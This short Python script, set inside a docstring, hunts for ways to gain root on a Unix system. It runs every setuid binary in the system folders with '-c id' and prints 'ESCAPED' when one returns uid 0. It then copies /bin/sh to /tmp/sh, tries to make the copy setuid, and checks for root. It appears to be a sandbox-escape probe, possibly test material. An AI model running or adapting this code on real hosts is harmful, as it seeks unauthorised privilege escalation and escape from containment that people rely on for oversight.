"""Programs that run as somebody else are used.

# %%
import os, stat, subprocess
for folder in ("/usr/bin", "/usr/sbin", "/bin", "/usr/lib"):
    for name in os.listdir(folder) if os.path.isdir(folder) else []:
        path = f"{folder}/{name}"
        try:
            if not os.stat(path).st_mode & stat.S_ISUID: continue
        except OSError: continue
        done = subprocess.run([path, "-c", "id"], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=2)
        if "uid=0" in done.stdout: print("ESCAPED", path)
copy = "/tmp/sh"
import shutil; shutil.copy("/bin/sh", copy)
try: os.chmod(copy, 0o4755)
except OSError: pass
if "euid=0" in subprocess.run([copy, "-c", "id"], capture_output=True, text=True).stdout: print("ESCAPED")
print("tried")
"""
